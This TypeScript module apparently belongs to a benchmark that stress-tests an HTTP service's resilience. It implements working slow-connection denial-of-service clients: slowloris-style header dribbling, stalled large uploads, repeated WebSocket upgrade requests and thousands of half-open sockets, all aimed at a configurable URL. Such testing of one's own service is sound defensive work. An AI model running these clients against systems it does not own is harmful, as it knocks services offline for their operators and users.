/** Hostile clients below HTTP: connections that are held open and give nothing, or take nothing. @module */
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attack } from './attack.ts';

interface Held {
  /** Kept at once; whichever ends is replaced. */
  readonly count: number;
  /** Begins when a connection stands; may write until the socket is closed. */
  hold(socket: Socket): Promise<void> | void;
}

/** What may be opened in one round, so that the client itself does not become the bottleneck. */
const OPENED_AT_ONCE = 50;
const ROUND_MS = 100;

/** Keeps `count` connections until the attack ends; what they are answered is counted by its first line. */
const holding =
  ({ count, hold }: Held): Attack =>
  async ({ url, from, signal, note }) => {
    const { hostname, port } = new URL(url);
    const open = new Set<Socket>();
    const start = (): void => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: from });
      open.add(socket);
      socket.on('connect', () => void hold(socket));
      socket.once('data', (data: Buffer) => note(/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'other'));
      socket.on('error', () => note('connection failed'));
      socket.on('close', () => open.delete(socket));
    };
    while (!signal.aborted) {
      for (let i = 0; i < OPENED_AT_ONCE && open.size < count; i++) start();
      await wait(ROUND_MS);
    }
    note(`held at the end: ${open.size}`);
    for (const socket of open) socket.destroy();
  };

const whileOpen = async (socket: Socket, pauseMs: number, write: () => void): Promise<void> => {
  while (!socket.destroyed) {
    write();
    await wait(pauseMs);
  }
};

/** One header line a second each, never the empty one. */
export const slowHeaders = holding({
  count: 500,
  hold(socket) {
    socket.write('POST /v1/verify/ HTTP/1.1\r\nHost: bench\r\n');
    return whileOpen(socket, 1000, () => void socket.write(`X-Slow: ${performance.now()}\r\n`));
  },
});

const STALLED_BYTES = 50 * 1024 * 1024;

/** A large file is announced, its beginning sent, and then nothing. */
export const stalledBodies = holding({
  count: 200,
  hold(socket) {
    socket.write(
      `POST /v1/verify/ HTTP/1.1\r\nHost: bench\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${STALLED_BYTES}\r\n\r\n` +
        '--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n',
    );
    socket.write(Buffer.alloc(256 * 1024));
  },
});

/** Asks for another protocol, with more behind it, again and again on as many connections. */
export const websocketUpgrades = holding({
  count: 500,
  hold(socket) {
    const key = Buffer.alloc(16, 7).toString('base64');
    const upgrade = `GET /health HTTP/1.1\r\nHost: bench\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\n\r\n`;
    return whileOpen(socket, 500, () => void socket.write(upgrade));
  },
});

/** Connections without a request; every other one asks much and never reads an answer. */
export const halfOpenSockets = holding({
  count: 2000,
  hold(socket) {
    if ((socket.localPort ?? 0) % 2 === 0) return;
    socket.pause();
    socket.write('GET /openapi.json HTTP/1.1\r\nHost: bench\r\n\r\n'.repeat(20));
  },
});
